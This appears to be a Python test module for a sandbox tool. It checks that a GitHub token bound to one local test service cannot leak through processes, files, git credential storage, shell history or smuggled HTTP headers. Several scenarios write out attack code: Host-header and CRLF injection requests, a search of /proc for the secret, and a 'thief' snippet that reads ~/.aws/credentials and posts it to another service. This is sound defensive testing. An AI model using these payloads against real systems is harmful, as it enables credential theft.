"""A secret that stays outside: bound to one service by a policy of the probe's own, and attacked from inside.

The control has no sandbox, so that the variable holds the secret itself, and each attack gets it.
"""

from __future__ import annotations

import hashlib
import os

from paddock.errors import PaddockError
from paddock.probes.inside.effects import Skipped
from paddock.probes.scenarios.echo import Echo
from paddock.probes.scenarios.own_policy import put
from paddock.probes.scenarios.scene import scenario

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterable

    from paddock.probes.scenarios.scene import Scene

_VARIABLE = "GITHUB_TOKEN"  # which the made-up person has
_POLICY = """
[workspace]
canaries = {canaries}
[network]
mode = "allow"
allow = [{{ host = "host", port = {other}, raw = false }}]
[credentials.probe]
source = "env:GITHUB_TOKEN"
variables = ["GITHUB_TOKEN"]
hosts = ["host:{bound}"]
"""
# Runs inside. Sends each request to a service, with the variable's value where it says TOKEN, and prints the answers.
_SEND = """
import base64, os, socket, sys
token = os.environ.get("GITHUB_TOKEN", "")
basic = base64.b64encode(("user:" + token).encode()).decode()
for text in sys.argv[3:]:
    request = text.replace("TOKEN", token).replace("BASIC", basic).encode().decode("unicode_escape").encode()
    try:
        with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5) as ours:
            ours.sendall(request)
            while True:
                came = ours.recv(65536)
                if not came:
                    break
                sys.stdout.write(came.decode(errors="replace"))
    except OSError as error:
        print(error)
print("sent")
"""
# Runs inside. It has a hash of the secret only, so that it does not find itself.
_SEARCH = r"""
import hashlib, os, re, sys
wanted, *tops = sys.argv[1:]
def look(path):
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
            content = file.read(1 << 20)
    except OSError:
        return
    if any(hashlib.sha256(found).hexdigest() == wanted for found in re.findall(rb"canary-[0-9a-f]{32}", content)):
        print("found", path)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mountinfo"):
        look("/proc/%s/%s" % (pid, name))
for top in tops:
    for directory, _, names in os.walk(top):
        for name in names:
            look(os.path.join(directory, name))
print("searched")
"""
_STORE = """
printf 'protocol=https\\nhost=api.example.test\\nusername=person\\npassword=%s\\n\\n' "$GITHUB_TOKEN" > asked
git -c credential.helper='store --file=.stored' credential approve < asked
git -c credential.helper=store credential approve < asked
git config credential.helper store
rm asked
"""
_REMEMBER = """
echo "curl -H 'Authorization: Bearer $GITHUB_TOKEN'" >> "$HOME/.bash_history"
echo "token = '$GITHUB_TOKEN'" >> "$HOME/.python_history"
echo "remembered: $GITHUB_TOKEN" >> remembered.log
"""


class _Bound:
    """Two services: the secret is bound to the first, and the second is allowed as well."""

    def __init__(self, scene: Scene, bound: Echo, other: Echo, canaries: str = "[]") -> None:
        put(scene, _POLICY.format(bound=bound.port, other=other.port, canaries=canaries))
        self.scene, self.bound, self.other = scene, bound, other
        self.place = "host" if scene.paddock else "127.0.0.1"
        self.secret = scene.ground.secret

    def send(self, service: Echo, requests: Iterable[str]) -> str:
        """What came back. Raises Skipped where the sandbox does not start with such a policy."""
        names = {"BOUND": f"{self.place}:{self.bound.port}", "OTHER": f"{self.place}:{self.other.port}"}
        texts = []
        for text in requests:
            for name, value in names.items():
                text = text.replace(name, value)  # noqa: PLW2901 - one after the other
            texts.append(text)
        return self.run("python3", "-c", _SEND, self.place, str(service.port), *texts, word="sent")

    def run(self, *command: str, word: str = "") -> str:
        """What a command says, which ends with `word` unless it was cut short. Raises Skipped otherwise."""
        done = self.scene.run("/usr/bin/env", *command)
        said = done.stdout.decode(errors="replace")
        if word and not said.rstrip().endswith(word):
            why = done.stderr.decode(errors="replace").strip().split("\n")[0]
            raise Skipped(f"there was no such run here: {why or f'it ended with {done.status}'}")
        return said

    def left(self) -> list[str]:
        """The files of the person's, the repository and Paddock's state, that hold the secret."""
        found = []
        for directory, _, names in os.walk(self.scene.ground.base):
            for name in names:
                path = os.path.join(directory, name)
                if os.path.isfile(path) and self.secret.encode() in _content(path):
                    found.append(f"read {path}")
        return found


def _content(path: str) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read(1 << 22)
    except OSError:
        return b""


_PROPER = "GET / HTTP/1.1\\r\\nHost: BOUND\\r\\nAuthorization: Bearer TOKEN\\r\\nConnection: close\\r\\n\\r\\n"


@scenario("CR-38 credential-arrives")
def arrives(scene: Scene) -> list[str]:
    """What must go on: the service can tell that it was really asked with it."""
    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other)
        said = both.send(bound, [_PROPER])
        return [] if bound.heard(both.secret) else [f"the service did not get it: {said[:200]}"]


@scenario("CR-35 secret-never-inside")
def nowhere_inside(scene: Scene) -> list[str]:
    """By every process that is there, and in every file that can be read."""
    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other)
        # Without a sandbox only what is the ground's own is searched.
        tops = [scene.ground.home, scene.ground.repo]
        tops += ["/etc", "/run", "/tmp", "/dev/shm"] if scene.paddock else []  # noqa: S108 - the sandbox's own
        wanted = hashlib.sha256(both.secret.encode()).hexdigest()
        said = both.run("python3", "-c", _SEARCH, wanted, *tops, word="searched")
        return [line.replace("found", "read", 1) for line in said.splitlines() if line.startswith("found ")]


@scenario("CR-36 injection-host-bound")
def another_service(scene: Scene) -> list[str]:
    """Each way in which a service can be sent a secret."""
    end = "Connection: close\\r\\n\\r\\n"
    requests = (
        f"GET / HTTP/1.1\\r\\nHost: OTHER\\r\\nAuthorization: Bearer TOKEN\\r\\n{end}",
        f"GET / HTTP/1.1\\r\\nHost: OTHER\\r\\nAuthorization: Basic BASIC\\r\\n{end}",
        f"GET / HTTP/1.1\\r\\nHost: OTHER\\r\\nCookie: token=TOKEN\\r\\n{end}",
        f"GET /?token=TOKEN HTTP/1.1\\r\\nHost: OTHER\\r\\n{end}",
        f"GET /TOKEN HTTP/1.0\\r\\nHost: OTHER\\r\\n{end}",
        f"POST / HTTP/1.1\\r\\nHost: OTHER\\r\\nContent-Length: 39\\r\\n{end}TOKEN",
    )
    return _sent_elsewhere(scene, requests)


@scenario("CR-33 helper-injection")
def pretended(scene: Scene) -> list[str]:
    """A request to the second service that names the first, in every place that some program goes by."""
    end = "Authorization: Bearer TOKEN\\r\\nConnection: close\\r\\n\\r\\n"
    requests = (
        f"GET / HTTP/1.1\\r\\nHost: BOUND\\r\\n{end}",
        f"GET / HTTP/1.1\\r\\nHost: OTHER\\r\\nHost: BOUND\\r\\n{end}",
        f"GET / HTTP/1.1\\r\\nHost: BOUND\\r\\nHost: OTHER\\r\\n{end}",
        f"GET / HTTP/1.1\\r\\nHost: OTHER\\rHost: BOUND\\r\\n{end}",
        f"GET / HTTP/1.1\\nHost: BOUND\\n{end}",
        f"GET http://BOUND/ HTTP/1.1\\r\\nHost: OTHER\\r\\n{end}",
        f"GET http://BOUND@OTHER/ HTTP/1.1\\r\\nHost: OTHER\\r\\n{end}",
        f"GET http://BOUND%0d%0a@OTHER/ HTTP/1.1\\r\\nHost: BOUND\\r\\n{end}",
        f"GET / HTTP/1.1\\r\\nHost: OTHER\\r\\nX-Forwarded-Host: BOUND\\r\\nForwarded: host=BOUND\\r\\n{end}",
    )
    return _sent_elsewhere(scene, requests)


def _sent_elsewhere(scene: Scene, requests: tuple[str, ...]) -> list[str]:
    """Each in a run of one command; before it, a proper one shows that the secret is brought at all."""
    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other)
        said = both.send(bound, [_PROPER])
        if not bound.heard(both.secret):
            raise Skipped(f"the secret does not even reach its own service: {said[:200]}")
        both.send(other, requests)
        return [f"reached the other service by {other.requests} requests"] if other.heard(both.secret) else []


@scenario("CR-37 response-echo")
def echoed(scene: Scene) -> list[str]:
    """As debug pages and error messages do."""
    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other)
        said = both.send(bound, [_PROPER])
        if not bound.heard(both.secret):
            raise Skipped(f"the secret does not even reach its own service: {said[:200]}")
        return ["read the secret in the service's answer"] if both.secret in said else []


@scenario("CR-37 response-echo-encoded")
def echoed_encoded(scene: Scene) -> list[str]:
    """A form that nobody can know of beforehand."""
    import base64

    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other)
        said = both.send(bound, [_PROPER])
        wanted = base64.b64encode(f"Authorization: Bearer {both.secret}".encode()).decode()
        return ["read the secret in the service's answer, in base64"] if wanted in said else []


@scenario("CR-34 helper-no-store")
def stored_by_git(scene: Scene) -> list[str]:
    """Where git puts what it is given."""
    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other)
        both.run("sh", "-c", f"{_STORE}\necho stored", word="stored")
        return both.left()


@scenario("CR-39 history-after-run")
def remembered(scene: Scene) -> list[str]:
    """Used, typed, logged and kept in the change set."""
    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other)
        both.send(bound, [_PROPER])
        both.run("sh", "-c", f"{_REMEMBER}\necho written", word="written")
        return both.left()


@scenario("CR-41 false-credential-sent")
def false_credential(scene: Scene) -> list[str]:
    """The thief goes on after that, if it may."""
    thief = f"""
import os, socket
content = open(os.environ["HOME"] + "/.aws/credentials", "rb").read()
try:
    with socket.create_connection(("PLACE", PORT), timeout=5) as ours:
        head = b"POST /stolen HTTP/1.1\\r\\nHost: PLACE:PORT\\r\\nContent-Length: %d\\r\\n\\r\\n"
        ours.sendall(head % len(content) + content)
        ours.recv(100)
except OSError:
    pass
import time
time.sleep(2 if {bool(scene.paddock)} else 0)
print("went on")
"""
    with Echo() as bound, Echo() as other:
        both = _Bound(scene, bound, other, '["aws"]')
        code = thief.replace("PLACE", both.place).replace("PORT", str(other.port))
        said = both.run("python3", "-c", code)
        arrived = ["reached the other service with it"] if other.heard("stolen") else []
        return [*arrived, *(["ran on after it"] if "went on" in said else [])]


@scenario("CR-40 cross-session")
def next_session(scene: Scene) -> list[str]:
    """Caches and temporary places; the change set is meant to be there again."""
    name, canary = f"paddock-session-{scene.ground.mark}", scene.ground.canary()
    places = ("$HOME/.cache/pip", "$HOME/.npm", "$HOME/.cargo/registry", "$HOME", "/tmp", "/var/tmp", "/dev/shm")  # noqa: S108 - the control takes it away again
    each = f"for d in {' '.join(places)}; do"
    for place in ("/tmp", "/var/tmp", "/dev/shm"):  # noqa: S108
        scene.ground.undo.callback(_forget, f"{place}/{name}")
    left = scene.run("/bin/sh", "-c", f'{each} mkdir -p "$d" && echo {canary} > "$d/{name}"; done; echo left')
    looked = scene.run("/bin/sh", "-c", f'{each} grep -l canary- "$d/{name}" 2>/dev/null; done; echo looked')
    for done, word in ((left, b"left"), (looked, b"looked")):
        if word not in done.stdout.splitlines():
            raise PaddockError(f"the sandbox did not run it: {done.stderr.decode(errors='replace')[:200]}")
    return [f"read {line.decode(errors='replace')}" for line in looked.stdout.splitlines() if line != b"looked"]


@scenario("CR-28 told-by-scan")
def told_by_scan(scene: Scene) -> list[str]:
    """A token of GitHub's shape, made up."""
    import json
    import secrets

    token = f"ghp_{secrets.token_hex(18)}"
    with open(f"{scene.ground.repo}/.git/config", "a", encoding="utf-8") as file:
        file.write(f'[remote "second"]\n\turl = https://person:{token}@git.example.test/a/b.git\n')
    said = scene.call("scan", "--json").stdout
    findings = json.loads(said or b"{}").get("findings", [])
    told = any(found["path"] == ".git/config" and found["kind"] == "secret" for found in findings)
    return [] if told else ["paddock scan names no secret in .git/config"]


def _forget(path: str) -> None:
    if os.path.exists(path):
        os.unlink(path)
